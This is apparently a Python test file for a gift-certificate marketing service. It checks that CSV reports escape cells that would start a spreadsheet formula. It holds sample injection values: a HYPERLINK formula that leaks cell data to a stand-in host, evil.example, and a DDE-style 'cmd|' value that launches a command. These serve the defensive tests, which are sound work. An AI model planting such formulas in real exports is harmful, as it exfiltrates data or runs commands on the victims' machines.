"""Attack: a certificate series (or campaign) named like a spreadsheet formula goes raw into a
CSV report, and the back office's spreadsheet runs it (``=HYPERLINK(...)``). Defence: every
CSV cell that would start a formula gets a leading apostrophe (``codecs/csvcells.py``)."""

import csv
import io

import pytest

from tests.marketing.helpers import api, ask, start_marketing
from tests.nodes.helpers import http
from ukm_actors.codecs.csvcells import safe_cell, write_csv

pytestmark = pytest.mark.timeout(60)

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Молоко =1", "Молоко =1"),
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        (-1250, "-1250"),
        (None, ""),
    ],
)
def test_a_cell_that_would_start_a_formula_is_escaped_and_numbers_are_not(raw, written):
    assert safe_cell(raw) == written


def test_write_csv_escapes_the_header_too():
    text = write_csv(["=cmd", "b"], [["@x", 5]])
    assert list(csv.reader(io.StringIO(text))) == [["'=cmd", "b"], ["'@x", "5"]]


@pytest.fixture
def marketing(tmp_path, make_db_url):
    node = start_marketing(tmp_path, make_db_url("marketing"))
    yield node
    http.clear()
    node.stop()


def test_a_hyperlink_series_name_reaches_the_csv_report_as_text(marketing):
    series = {"id": "GC", "name": LINK, "face_value": 50_000, "article": "CERT500",
              "prefix": "9", "length": 10}  # fmt: skip
    assert api(marketing, "POST", "/api/v1/certificate-series", series)[0] == 201
    _, made = api(marketing, "POST", "/api/v1/certificate-series/GC/certificates", {"count": 1})
    ask(marketing, "certificate.activate", {"number": made["numbers"][0], "receipt_id": "S-1"})

    status, text = api(marketing, "GET", "/api/v1/reports/certificates.csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["series_id", "name"]
    assert rows[1][:3] == ["GC", "'" + LINK, "500.00"]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)

    # JSON keeps the name as it was given: nothing stored was changed.
    _, as_json = api(marketing, "GET", "/api/v1/reports/certificates")
    assert as_json["rows"][0]["name"] == LINK
    _, stored = api(marketing, "GET", f"/api/v1/certificates/{made['numbers'][0]}")
    assert stored["series_id"] == "GC"
    # Healthy afterwards.
    assert http.request("GET", marketing.ctx.url + "/health").status == 200
    assert api(marketing, "GET", "/api/v1/reports/coupons.csv")[0] == 200
